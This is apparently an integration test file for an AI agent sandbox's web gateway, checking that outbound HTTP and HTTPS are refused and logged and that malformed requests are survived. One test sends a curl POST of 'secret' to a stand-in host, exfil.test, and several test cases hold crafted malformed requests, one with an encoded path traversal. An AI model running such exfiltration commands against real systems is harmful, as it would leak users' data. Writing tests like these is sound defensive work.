using System.Net.Sockets;
using System.Text;
using SlackAgents.Core.Sandboxes;
using SlackAgents.Core.Traces;

namespace SlackAgents.IntegrationTests.Gateway;

/// <summary>The web door, with curl and with bytes that no client would send.</summary>
internal sealed class WebDoorTests
{
    private GatewayRig _rig = null!;
    private RecordingObserver _observer = null!;
    private GatewaySession _session = null!;
    private string _proxy = null!;

    [SetUp]
    public async Task StartAsync()
    {
        _rig = await GatewayRig.StartAsync();
        _observer = new RecordingObserver();
        _session = _rig.NewSession(_observer);
        await _rig.Server.OpenAsync(_session, CancellationToken.None);
        _proxy = _rig.Forward(_session).Url;
    }

    [TearDown]
    public ValueTask StopAsync() => _rig.DisposeAsync();

    [Test]
    public async Task Plain_http_is_refused_with_the_reason_and_on_record()
    {
        var text = await Shell.MustAsync(_rig.Root, "curl", "-s", "-x", _proxy, "-w", "%{http_code}", "-d", "secret", "http://exfil.test:81/a?data=secret");

        Assert.That(text, Does.StartWith("The web is closed for this run").And.EndsWith("403"));
        var attempt = await _observer.WaitForAsync<WebRequestEvent>();
        Assert.That((attempt.Method, attempt.Target, attempt.Verdict), Is.EqualTo(("POST", "http://exfil.test:81/a?…", "refused")));
    }

    [Test]
    public async Task Https_is_refused_at_the_connect()
    {
        var result = await Shell.RunAsync(_rig.Root, "curl", "-sS", "-x", _proxy, "https://exfil.test/a");

        Assert.That(result.ExitCode, Is.EqualTo(56));
        Assert.That(result.Text, Does.Contain("403"));
        var attempt = await _observer.WaitForAsync<WebRequestEvent>();
        Assert.That((attempt.Method, attempt.Target), Is.EqualTo(("CONNECT", "exfil.test:443")));
    }

    [Test]
    public async Task Git_through_the_proxy_setting_still_finds_its_own_door()
    {
        var text = await Shell.MustAsync(_rig.Root, "curl", "-s", "-x", _proxy, GatewayAddress.GitUrl(_session.Repository) + "/HEAD");

        Assert.That(text, Does.Contain("smart HTTP"));
    }

    [TestCase("GET nonsense HTTP/1.1\r\nHost: a\r\n\r\n")]
    [TestCase("OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n")]
    [TestCase("CONNECT [::1]:443 HTTP/1.1\r\nHost: other\r\n\r\n")]
    [TestCase("CONNECT / HTTP/1.1\r\nHost: a\r\n\r\n")]
    [TestCase("GET http:// HTTP/1.1\r\nHost: a\r\n\r\n")]
    [TestCase("GET http://a:999999/ HTTP/1.1\r\nHost: b\r\n\r\n")]
    [TestCase("GET /%00%ff/..%2f HTTP/1.1\r\nHost: a\r\n\r\n")]
    [TestCase("\0\0\0\0\r\n\r\n")]
    [TestCase("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")]
    public async Task Strange_requests_get_an_error_and_the_door_lives_on(string request)
    {
        using var socket = await GatewayRig.ConnectAsync(Path.Combine(_session.RunDirectory, GatewayAddress.SocketName));
        await using var stream = new NetworkStream(socket);
        await stream.WriteAsync(Encoding.Latin1.GetBytes(request));
        using var reader = new StreamReader(stream);
        var answer = await reader.ReadLineAsync().WaitAsync(TimeSpan.FromSeconds(60));

        Assert.That(answer, Does.Match(@"\AHTTP/1\.1 (400|403|404|405|505)|\A\0"));
        Assert.That(await Shell.MustAsync(_rig.Root, "curl", "-s", "-x", _proxy, "http://still.test/"), Does.StartWith("The web is closed"));
    }

    [Test]
    public async Task Records_of_many_attempts_are_bundled()
    {
        const int Attempts = 1200;
        await using var rig = await HighRateAsync();

        for (var sent = 0; sent < Attempts; sent++)
        {
            await rig.SendAsync();
        }

        var records = rig.Observer.Events.OfType<WebRequestEvent>().ToList();
        Assert.That(records, Has.Count.EqualTo(1002));
        Assert.That(records[^1].Reason, Does.Contain("1200 in all"));
    }

    private static async Task<RepeatedRequest> HighRateAsync()
    {
        var rig = await GatewayRig.StartAsync(("Gateway:RequestsPerSecond", "10000"));
        var observer = new RecordingObserver();
        var session = rig.NewSession(observer);
        await rig.Server.OpenAsync(session, CancellationToken.None);
        return new RepeatedRequest(rig, observer, Path.Combine(session.RunDirectory, GatewayAddress.SocketName));
    }

    private sealed record RepeatedRequest(GatewayRig Rig, RecordingObserver Observer, string Path) : IAsyncDisposable
    {
        public async Task SendAsync()
        {
            using var socket = await GatewayRig.ConnectAsync(Path);
            await socket.SendAsync("GET http://a.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n"u8.ToArray());
            await using var stream = new NetworkStream(socket);
            using var reader = new StreamReader(stream);
            Assert.That(await reader.ReadToEndAsync(), Does.StartWith("HTTP/1.1 403"));
        }

        public ValueTask DisposeAsync() => Rig.DisposeAsync();
    }
}
